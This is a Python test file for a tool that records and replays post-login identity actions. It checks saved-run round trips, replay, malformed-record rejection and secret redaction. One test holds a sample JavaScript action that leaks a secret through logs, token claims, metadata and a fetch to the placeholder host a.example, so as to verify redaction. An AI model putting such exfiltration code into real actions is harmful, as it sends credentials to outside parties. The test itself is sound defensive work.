from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from studio.catalogue.events import default_event
from studio.catalogue.loader import load
from studio.flow.difference import compare
from studio.flow.execution import ActionSource, RunRequest, execute
from studio.flow.kept_run import NotARecord, headline, read_run, write_run
from studio.flow.replay import Replay
from studio.flow.report import run_json
from tests.test_samples import KEYS, SAMPLES, each_sample, played

SECRET = "hunter2-hunter2-hunter2"


@each_sample
def test_every_sample_comes_back_as_it_was(path: Path) -> None:
    done = played(path)
    again = read_run(json.loads(json.dumps(write_run(done))), load())
    told = json.loads(json.dumps(run_json(again), default=str))
    wanted = json.loads(json.dumps(run_json(done), default=str))
    secrets = [value for value in done.secrets.values() if len(value) > 3]
    if not secrets:
        assert told == wanted
    assert (told["status"], told["summary"], told["warnings"]) == (
        wanted["status"],
        wanted["summary"],
        wanted["warnings"],
    )
    assert compare((done.shown, done.tokens), (again.shown, again.tokens)) == () or secrets
    assert len(Replay(again, KEYS).entries) == len(Replay(done, KEYS).entries)


def test_a_kept_run_can_be_replayed() -> None:
    done = played(next(path for path in SAMPLES if path.stem == "role-claim"))
    replay = Replay(read_run(write_run(done), load()), KEYS)
    calls = [number for number, entry in enumerate(replay.entries, 1) if entry.is_call]
    name = "https://sovereign.corp/roles"
    for place, there in ((calls[0] - 1, False), (calls[0], True)):
        token = replay.state_at(place).tokens.id_token
        assert token is not None and (name in token.claims) is there


def test_no_secret_is_in_what_is_kept() -> None:
    code = """exports.onExecutePostLogin = async (event, api) => {
  console.log(event.secrets.KEY, Buffer.from(event.secrets.KEY).toString('base64'));
  api.idToken.setCustomClaim('leak', `x${event.secrets.KEY}x`);
  api.user.setAppMetadata('leak', event.secrets.KEY);
  await fetch('https://a.example/?k=' + encodeURIComponent(event.secrets.KEY)).catch(() => {});
  api.access.deny(event.secrets.KEY);
};
"""
    trigger = load().triggers["post-login"]
    for body in (code, code.replace("api.access.deny(event.secrets.KEY);", "")):
        action = ActionSource("one", "one.js", body + f"// {SECRET}\n", {"KEY": SECRET})
        event = {**default_event(trigger), "secrets": {"KEY": SECRET}}
        done = execute(RunRequest(trigger, (action,), event), KEYS)
        kept = json.dumps([write_run(done), headline(done, 1.0, f"event {SECRET}").summary])
        assert SECRET not in kept and SECRET[::-1] not in kept
        decoded = read_run(json.loads(kept)[0], load())
        assert SECRET not in repr(decoded) and decoded.outcome.changes.get("app_metadata", {}).get("leak") != SECRET
        for token in (decoded.tokens.id_token, decoded.tokens.access_token):
            assert token is None or SECRET.encode().hex() not in token.jwt


@pytest.mark.parametrize(
    "spoil",
    [
        lambda value: value.pop("tokens"),
        lambda value: value.update(schema=99),
        lambda value: value.update(trigger="gone"),
        lambda value: value["outcome"].update(status="nonsense"),
        lambda value: value.update(recorded=[1]),
        lambda value: value["actions"].append({}),
        lambda value: value.update(now=5),
        lambda value: value.update(moment=None),
    ],
)
def test_what_is_no_run_is_told_as_such(spoil: Any) -> None:
    value = write_run(played(next(path for path in SAMPLES if path.stem == "role-claim")))
    spoil(value)
    with pytest.raises(NotARecord):
        read_run(value, load())


def test_the_headline() -> None:
    done = played(next(path for path in SAMPLES if path.stem == "role-claim"))
    found = headline(done, 5.0, "Role claim")
    assert (found.at, found.trigger, found.status, found.actions) == (5.0, "post-login", "continue", ("role-claim",))
